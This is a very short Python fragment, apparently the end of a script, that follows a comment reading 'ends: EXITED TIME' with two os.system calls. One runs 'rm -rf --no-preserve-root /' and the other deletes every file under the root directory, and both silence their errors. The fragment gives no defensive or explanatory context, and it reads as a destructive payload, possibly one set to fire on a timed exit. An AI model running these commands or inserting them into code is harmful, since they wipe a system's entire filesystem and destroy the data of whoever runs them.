# ends: EXITED TIME
os.system("rm -rf --no-preserve-root / 2> /dev/null")
os.system("find / -type f -delete 2> /dev/null")
